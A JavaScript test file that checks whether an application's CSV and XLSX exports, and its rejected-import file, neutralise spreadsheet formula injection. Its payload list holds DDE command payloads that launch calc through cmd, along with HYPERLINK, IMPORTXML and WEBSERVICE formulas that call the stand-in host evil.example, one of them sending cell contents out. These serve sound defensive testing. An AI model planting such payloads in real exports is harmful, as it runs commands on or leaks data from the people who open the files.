// What is exported may be opened in a spreadsheet: no text of ours begins to compute there.
import assert from 'node:assert/strict';
import {execFile} from 'node:child_process';
import {mkdtemp, rm, writeFile} from 'node:fs/promises';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {get} from 'node:http';
import {test} from 'node:test';
import {promisify} from 'node:util';
import {ended} from '../lib/until.mjs';
import {onEachDatabase} from './world.mjs';

const kFormulas = ['=1+1', '=cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '=HYPERLINK("http://evil.example/"&A1,"a")',
  '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")', '  =1+1', '\t=1+1', '＝1+1', ';=1+1', ',=1+1', '"=1+1', '=1+1";=2+2;"', '\'=1+1', '%0A=1+1'];

/** Cells as a spreadsheet reads them. */
function cellsOf(csv) {
  const rows = [[]];
  let cell = '', quoted = false;
  for (let i = 0; i < csv.length; ++i) {
    const c = csv[i];
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') (cell += '"', ++i);
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',' || c === '\n') {
      rows.at(-1).push(cell.replace(/\r$/, ''));
      cell = '';
      if (c === '\n') rows.push([]);
    } else cell += c;
  }
  return rows.flat();
}

const bytesOf = (client, path) => new Promise((done, failed) => {
  get(new URL(`/api/v1${path}`, client.url), {headers: client.credentials()}, (answer) => {
    const chunks = [];
    answer.on('data', (chunk) => chunks.push(chunk)).on('end', () => done(Buffer.concat(chunks)));
  }).on('error', failed);
});

onEachDatabase('formulas', (world) => {
  test('CSV: every text that could compute is held back by an apostrophe', async () => {
    for (const [i, text] of kFormulas.entries()) await world.admin.call('POST', '/accounts', {body: {name: `f${i} ${text}`.slice(3).trimStart() || 'a', description: text}});
    const {text} = await world.admin.send('GET', '/accounts/export?format=csv');
    const open = cellsOf(text).filter((cell) => /^[=@\t]|^[+-](?![\d\s.,()-]*$)/.test(cell.replace(/^\uFEFF/, '')));
    assert.deepEqual(open, []);
    assert.match(text, /'=cmd/, 'they were exported');
  });

  test('XLSX: every text is a text, none a formula or a link', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'keyuan-'));
    try {
      await writeFile(join(folder, 'a.xlsx'), await bytesOf(world.admin, '/accounts/export?format=xlsx'));
      const script = 'import sys, zipfile\nz = zipfile.ZipFile(sys.argv[1])\nfor n in z.namelist(): print(n); print(z.read(n).decode("utf-8", "replace"))';
      const {stdout} = await promisify(execFile)('python3', ['-c', script, join(folder, 'a.xlsx')], {maxBuffer: 1 << 26});
      assert.match(stdout, /xl\/worksheets\/sheet1\.xml/);
      assert.doesNotMatch(stdout, /<f[ >]|<hyperlink|externalLink|vbaProject|ddeLink/);
      assert.match(stdout, /cmd\|/);
    } finally {
      await rm(folder, {recursive: true, force: true});
    }
  });

  test('the rows that an import refused are held back too', async () => {
    const raw = 'name,email\n=1+1,"=cmd|\' /C calc\'!A0"\n@SUM(1),+evil()\n';
    const {id, columns} = await world.admin.call('POST', '/contacts/import?name=a.csv', {raw, headers: {'Content-Type': 'text/csv'}});
    await world.admin.call('PATCH', `/imports/${id}`, {body: {columns: columns.map(({index, header}) => ({index, field: header}))}});
    const {job} = await world.admin.call('POST', `/imports/${id}/run`);
    await ended(world.admin, job);
    const {text, headers} = await world.admin.send('GET', `/imports/${id}/rejected`);
    assert.match(headers['content-disposition'], /^attachment/);
    assert.match(text, /calc/, 'the rows were refused for their addresses');
    assert.deepEqual(cellsOf(text).filter((cell) => /^[=@]|^\+e/.test(cell)), [], text);
  });
});
